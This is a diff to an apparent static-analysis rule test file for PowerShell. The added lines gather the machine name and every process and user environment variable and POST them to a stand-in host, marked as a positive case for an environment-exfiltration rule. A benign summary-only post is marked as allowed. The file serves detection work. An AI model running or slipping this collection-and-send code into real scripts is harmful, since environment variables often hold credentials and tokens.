@@ -31,3 +31,18 @@ irm https://api.example.com/x -Headers @{ "X-Client-Name" = [Convert]::ToBase64S
 irm https://api.example.com/x -Headers @{ "Authorization" = "Basic " + [Convert]::ToBase64String([Text.Encoding]::UTF8.GetBytes("$user:$pass")) }
 # ok: shell-encoded-data-in-header
 irm https://api.example.com/x -Method Post -Body $enc
+
+$Board = 'https://buildhealth.example.net/api/machines'
+$report = [ordered]@{}
+$report.host = $env:COMPUTERNAME
+$scoped = @{}
+foreach ($s in 'Process', 'User') { $scoped[$s] = [Environment]::GetEnvironmentVariables($s) }
+$report.variables = $scoped
+# ruleid: shell-env-exfiltration
+Invoke-RestMethod -Uri $Board -Method Post -ContentType 'application/json' `
+    -Body ($report | ConvertTo-Json -Depth 4 -Compress)
+$summary = [ordered]@{}
+$summary.count = $scoped.Count
+$summary.names = $scoped.Keys
+# ok: shell-env-exfiltration
+Invoke-RestMethod -Uri $Board -Method Post -Body ($summary | ConvertTo-Json)
